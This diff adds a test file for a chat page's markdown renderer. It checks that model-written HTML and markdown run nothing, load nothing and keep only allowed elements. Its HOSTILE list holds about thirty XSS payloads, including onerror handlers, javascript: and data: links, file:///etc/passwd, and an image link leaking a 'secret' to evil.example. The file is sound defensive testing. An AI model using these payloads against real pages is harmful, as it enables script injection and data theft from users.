@@ -1,0 +1,187 @@
+import assert from 'node:assert/strict';
+import type { ChatPage } from '../ui/chatPage.ts';
+import { ChatPageHost, turnView } from '../ui/chatPage.ts';
+
+/** What a hostile model might write. Each would run or load something if any layer let it through. */
+const HOSTILE = [
+	'<script>alert(1)</script>',
+	'<img src=x onerror=alert(1)>',
+	'<img src="https://evil.example/i.png">',
+	'<svg onload=alert(1)><image href="https://evil.example/s.png"/></svg>',
+	'<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+	'<object data="https://evil.example/o"></object><embed src="https://evil.example/e">',
+	'<form action="https://evil.example/f"><button>send</button><input autofocus onfocus=alert(1)></form>',
+	'<style>@import "https://evil.example/c.css"; body { display: none }</style>',
+	'<link rel="stylesheet" href="https://evil.example/l.css"><link rel="prefetch" href="https://evil.example/p">',
+	'<meta http-equiv="refresh" content="0;url=https://evil.example/m"><base href="https://evil.example/">',
+	'<video poster="https://evil.example/v.png"><source src="https://evil.example/v"></video>',
+	'<div style="background:url(https://evil.example/b.png)" onclick="alert(1)">x</div>',
+	'<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
+	'<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+	'<a href="javascript:alert(1)" target="_blank">x</a>',
+	'<template><script>alert(1)</script></template><chat-turn></chat-turn>',
+	'[x](javascript:alert(1)) [x](JaVaScRiPt:alert`1`) [x](&#x6A;avascript:alert(1)) [x](java&#10;script:alert(1))',
+	'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [x](vbscript:x) [x](blob:https://evil.example/1)',
+	'[x](command:workbench.action.quit) [x](vscode://evil.extension/run) [x](file:///etc/passwd)',
+	'<javascript:alert(1)> <data:text/html,x>',
+	'![leak](https://evil.example/leak.png?secret) ![x](data:image/svg+xml,<svg/onload=alert(1)>)',
+	'![x][ref]\n\n[ref]: https://evil.example/ref.png "onerror=alert(1)"',
+	'[x](https://example.com "\\"><img src=x onerror=alert(1)>")',
+	'![" onerror="alert(1)](https://evil.example/q.png)',
+	'```"><img/src=x/onerror=alert(1)>\ncode\n```',
+	'```html onload=alert(1)\n<script>alert(1)</script>\n```',
+	'| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <script>alert(1)</script> |',
+	'- > - <img src=x onerror=alert(1)>\n  > 1. [x](javascript:alert(1))',
+	'&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
+	'\u0000<script>\u0000alert(1)</script> <scr\u0000ipt>alert(1)</scr\u0000ipt>',
+];
+
+const MARKDOWN = [
+	'# Heading',
+	'A paragraph with **bold**, *em*, `code` and [a link](https://example.com).',
+	'- one\n- two\n  - three\n\n  more of two\n- four',
+	'1. first\n2. second',
+	'```ts\nconst a = 1;\n\nconst b = `<b>`;\n```',
+	'> a quote\n> - with a list',
+	'| a | b |\n|:-:|--:|\n| 1 | 2 |',
+	'---',
+	'![alt](https://example.com/i.png) and [later]',
+	'Last words.\n\n[later]: https://example.com/later',
+].join('\n\n');
+
+describe('markdown in the chat page', function () {
+	this.timeout(60_000);
+	let host: ChatPageHost;
+	let chat: ChatPage;
+
+	before(async () => {
+		host = await ChatPageHost.start();
+	});
+
+	after(() => host?.stop());
+
+	beforeEach(async () => {
+		chat = await host.open();
+	});
+
+	afterEach(() => chat.close());
+
+	const html = () => chat.page.locator('chat-markdown .content').last().innerHTML();
+
+	it('runs nothing and loads nothing of what a hostile model writes, whole or in pieces', async () => {
+		for (const text of HOSTILE) {
+			await chat.snapshot([turnView({ text })]);
+		}
+		const everything = HOSTILE.join('\n\n');
+		const turn = turnView({ text: '', state: 'streaming' });
+		await chat.snapshot([turn]);
+		for (let start = 0; start < everything.length; start += 97) {
+			await chat.append(turn.id, everything.slice(start, start + 97));
+		}
+		await chat.change({ ...turn, reply: { ...turn.reply, text: everything, state: 'done' } });
+		assert.match(await html(), /alert\(1\)/, 'the text is shown');
+		// What would have run had a moment to: focus, hover, animation.
+		await chat.page.mouse.move(200, 200);
+		await chat.page
+			.locator('chat-markdown .content')
+			.first()
+			.click({ position: { x: 1, y: 1 } });
+		await chat.page.evaluate(() => new Promise(resolve => setTimeout(resolve, 200)));
+		assert.deepEqual(chat.requests, []);
+		assert.deepEqual(chat.faults, []);
+		assert.deepEqual(await chat.violations(), []);
+		assert.deepEqual(
+			(await chat.posted()).filter(({ kind }) => kind !== 'page-ready'),
+			[],
+		);
+	});
+
+	it('holds only the elements and attributes that markdown needs', async () => {
+		await chat.snapshot([turnView({ text: HOSTILE.join('\n\n') })]);
+		const found = await chat.page
+			.locator('chat-markdown .content')
+			.first()
+			.evaluate(content => {
+				const names = new Set<string>();
+				for (const element of content.querySelectorAll('*')) {
+					names.add(element.localName);
+					for (const attribute of element.attributes) {
+						names.add(`@${attribute.name}`);
+						if (attribute.name === 'href' && !/^(?:https?:\/\/|mailto:)/.test(attribute.value)) {
+							names.add(attribute.value);
+						}
+					}
+				}
+				return [...names].sort();
+			});
+		const allowed = [
+			...['a', 'blockquote', 'button', 'code', 'div', 'li', 'ol', 'p', 'pre', 'span'],
+			...['table', 'tbody', 'td', 'th', 'thead', 'tr', 'ul'],
+			...['@aria-hidden', '@aria-label', '@class', '@href', '@role', '@tabindex', '@title', '@type'],
+		];
+		assert.deepEqual(
+			found.filter(name => !allowed.includes(name)),
+			[],
+		);
+	});
+
+	it('shows the same at the end, however the reply arrived', async () => {
+		await chat.snapshot([turnView({ text: MARKDOWN })]);
+		const whole = await html();
+		for (const size of [1, 7, 64, 1000]) {
+			const turn = turnView({ text: '', state: 'streaming' });
+			await chat.snapshot([turn]);
+			for (let start = 0; start < MARKDOWN.length; start += size) {
+				// Without waiting for a frame each time, as a fast model would.
+				const change = chat.append(turn.id, MARKDOWN.slice(start, start + size));
+				if (size > 1 || start % 50 === 0) {
+					await change;
+				}
+			}
+			await chat.change({ ...turn, reply: { ...turn.reply, text: MARKDOWN, state: 'done' } });
+			assert.equal(await html(), whole, `in pieces of ${size}`);
+		}
+	});
+
+	it('leaves finished blocks in place while the reply grows', async () => {
+		const turn = turnView({ text: 'First.\n\nSecond.\n\nThird', state: 'streaming' });
+		await chat.snapshot([turn]);
+		await chat.page.evaluate(() => {
+			const content = document
+				.querySelector('chat-app')
+				?.shadowRoot?.querySelector('chat-turn')
+				?.shadowRoot?.querySelector('chat-markdown')
+				?.shadowRoot?.querySelector('.content');
+			Object.assign(window, { firstParagraph: content?.firstElementChild, content });
+		});
+		await chat.append(turn.id, ' goes on.\n\nFourth.\n\n');
+		await chat.append(turn.id, 'Fifth.');
+		assert.equal(
+			await chat.page.evaluate(() => {
+				const { firstParagraph, content } = window as unknown as { firstParagraph: Element; content: Element };
+				return firstParagraph === content.firstElementChild && content.children.length;
+			}),
+			5,
+		);
+	});
+
+	it('opens a link through the host and nowhere else', async () => {
+		await chat.snapshot([turnView({ text: '[x](https://example.com/a?b=c%20d)' })]);
+		await chat.page.getByRole('link', { name: 'x' }).click();
+		assert.deepEqual(await chat.waitForPosted('link-open'), {
+			kind: 'link-open',
+			url: 'https://example.com/a?b=c%20d',
+		});
+		assert.deepEqual(chat.requests, []);
+		assert.deepEqual(chat.faults, []);
+	});
+
+	it('copies exactly the code of a block', async () => {
+		await chat.snapshot([turnView({ text: 'Run:\n\n```sh\necho "<b>" &&\n\n  ls\n```\n' })]);
+		await chat.page.locator('pre').hover();
+		await chat.page.getByRole('button', { name: 'Copy', exact: true }).click();
+		assert.deepEqual(await chat.waitForPosted('text-copy'), { kind: 'text-copy', text: 'echo "<b>" &&\n\n  ls\n' });
+		await chat.page.getByRole('button', { name: 'Copied' }).waitFor();
+		await chat.page.getByRole('button', { name: 'Copy', exact: true }).waitFor();
+	});
+});
